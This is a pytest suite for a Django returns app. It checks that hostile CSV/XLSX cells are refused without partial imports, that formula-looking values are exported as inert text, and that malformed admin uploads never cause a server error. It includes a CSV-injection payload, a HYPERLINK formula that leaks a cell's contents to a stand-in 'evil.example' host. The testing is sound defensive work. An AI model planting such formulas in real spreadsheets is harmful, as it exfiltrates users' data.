"""Hostile CSV/XLSX for the mapping tables: a bad cell is a per-row error and the
file is refused whole (nothing half-imported); formula-looking text is kept as
data but exported so a spreadsheet shows it as text."""

import io
import re

import openpyxl
import pytest
import tablib
from import_export.formats import base_formats

from returns_hub import models
from returns_hub.resources import MAPPING_FILES, MAPPING_RESOURCES, SkuMappingResource
from tests.conftest import FIXTURES
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
MODELS = {
    "khaos_return_reasons": models.KhaosReturnReason,
    "sku_mappings": models.SkuMapping,
    "reason_mappings": models.ReasonMapping,
    "disposition_mappings": models.DispositionMapping,
    "customers": models.CustomerMapping,
}
# Text that no mapping cell holds, or that a spreadsheet would run: tried in every column.
TEXT_CELLS = {
    "nul": "A\x00B",
    "bell": "A\x07B",
    "line_break": "A\nB",
    "tab_formula": "\t=1+1",
    "overlong": "X" * 300,
    "formula": HYPERLINK,
    "empty": "",
}
# Numbers no id or site column holds: tried in those columns.
NUMBER_CELLS = {"not_a_number": "abc", "huge_number": "9" * 25, "negative": "-1", "fraction": "1.5"}
NUMBER_COLUMNS = {"id", "khaos_return_reason_id", "site_id"}
CELLS = {**TEXT_CELLS, **NUMBER_CELLS}
FILES = dict(MAPPING_FILES)


def _rows(table: str) -> tablib.Dataset:
    """The table's fixture CSV cut to two rows (the second is the one mangled)."""
    text = (FIXTURES / "mappings" / FILES[table]).read_text()
    full = tablib.Dataset().load(text, format="csv")
    return tablib.Dataset(*list(full)[:2], headers=full.headers)


def _snapshot():
    return {table: list(model.objects.order_by("pk").values()) for table, model in MODELS.items()}


@pytest.fixture
def reasons(db):
    text = (FIXTURES / "mappings" / FILES["khaos_return_reasons"]).read_text()
    dataset = tablib.Dataset().load(text, format="csv")
    MAPPING_RESOURCES["khaos_return_reasons"]().import_data(dataset, raise_errors=True)


CASES = [
    pytest.param(table, column, kind, id=f"{table}:{column}:{kind}")
    for table, name in MAPPING_FILES
    for column in _rows(table).headers
    for kind in [*TEXT_CELLS, *(NUMBER_CELLS if column in NUMBER_COLUMNS else [])]
]


@pytest.mark.parametrize(("table", "column", "kind"), CASES)
def test_a_hostile_cell_is_a_row_error_and_nothing_is_imported(reasons, table, column, kind):
    dataset = _rows(table)
    rows = [list(row) for row in dataset]
    rows[1][dataset.headers.index(column)] = CELLS[kind]
    hostile = tablib.Dataset(*rows, headers=dataset.headers)
    before = _snapshot()

    result = MAPPING_RESOURCES[table]().import_data(hostile)

    if result.has_errors() or result.has_validation_errors():
        assert _snapshot() == before, "a refused file imports nothing, not even its good row"
        errors = [e.error for _, row_errors in result.row_errors() for e in row_errors]
        messages = [str(e) for e in errors] + [str(row.error_dict) for row in result.invalid_rows]
        assert any(messages)
        if kind in ("nul", "bell", "line_break", "tab_formula"):
            assert result.has_validation_errors()
            assert any("control character" in m and column in m for m in messages)
        return
    # Taken: nothing the database or a spreadsheet cannot hold was stored.
    assert kind not in ("nul", "bell", "line_break", "tab_formula")
    for rows_now in _snapshot().values():
        for row in rows_now:
            for value in row.values():
                assert not (isinstance(value, str) and re.search(r"[\x00-\x1f]", value))
    if kind == "formula" and column in ("platform_sku", "reason", "stock_code", "name", "urn"):
        # Kept as data, exactly as written.
        assert any(HYPERLINK in str(r) for rows_now in _snapshot().values() for r in rows_now)


def _sku_with_formula():
    return models.SkuMapping.objects.create(
        platform="loop", platform_sku=HYPERLINK, stock_code="-HF-MINUS"
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_writes_formulas_as_text_and_reimports_them_unchanged(db, fmt):
    _sku_with_formula()
    models.SkuMapping.objects.create(platform="loop", platform_sku="@SUM(A1)", stock_code="HF-1")
    dataset = SkuMappingResource().export()
    kind = base_formats.CSV() if fmt == "csv" else base_formats.XLSX()
    exported = kind.export_data(dataset)

    if fmt == "csv":
        text = exported if isinstance(exported, str) else exported.decode()
        cells = [cell for line in text.splitlines() for cell in line.split(",")]
        assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
        assert "'=HYPERLINK(" in text and "'-HF-MINUS" in text and "'@SUM(A1)" in text
        back = kind.create_dataset(text)
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        values = [cell.value for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)
        assert f"'{HYPERLINK}" in values and "'-HF-MINUS" in values
        back = kind.create_dataset(exported)

    before = list(models.SkuMapping.objects.order_by("pk").values())
    result = SkuMappingResource().import_data(back)
    assert not result.has_errors() and not result.has_validation_errors()
    assert list(models.SkuMapping.objects.order_by("pk").values()) == before
    assert models.SkuMapping.objects.filter(platform_sku=HYPERLINK).exists()


ADMIN_FILES = {
    "invalid_utf8.csv": ("csv", b"platform,platform_sku,stock_code\nloop,\xff\xfe,HF\n"),
    "empty.csv": ("csv", b""),
    "header_only.csv": ("csv", b"platform,platform_sku,stock_code\n"),
    "wrong_columns.csv": ("csv", b"a,b\n1,2\n"),
    "nul.csv": ("csv", b"platform,platform_sku,stock_code\nloop,A\x00B,HF\n"),
    "garbage.xlsx": ("xlsx", b"PK\x03\x04 not really a zip"),
    "csv_as.xlsx": ("xlsx", b"platform,platform_sku,stock_code\nloop,A,HF\n"),
    "ragged.csv": ("csv", b"platform,platform_sku,stock_code\nloop,A\nloop,B,HF,extra\n"),
}


@pytest.mark.parametrize("name", ADMIN_FILES)
def test_a_hostile_file_in_the_admin_import_is_never_a_500(client, name):
    admin = UserFactory(username="hostile-admin", is_staff=True, is_superuser=True)
    client.force_login(admin)
    url = "/admin/returns_hub/skumapping/import/"
    page = client.get(url).content.decode()
    fmt, content = ADMIN_FILES[name]
    choice = re.search(rf'<option value="(\d+)"[^>]*>{fmt}</option>', page, re.I).group(1)
    upload = io.BytesIO(content)
    upload.name = name

    response = client.post(url, {"resource": "0", "format": choice, "import_file": upload})

    assert response.status_code == 200
    assert not models.SkuMapping.objects.exists()
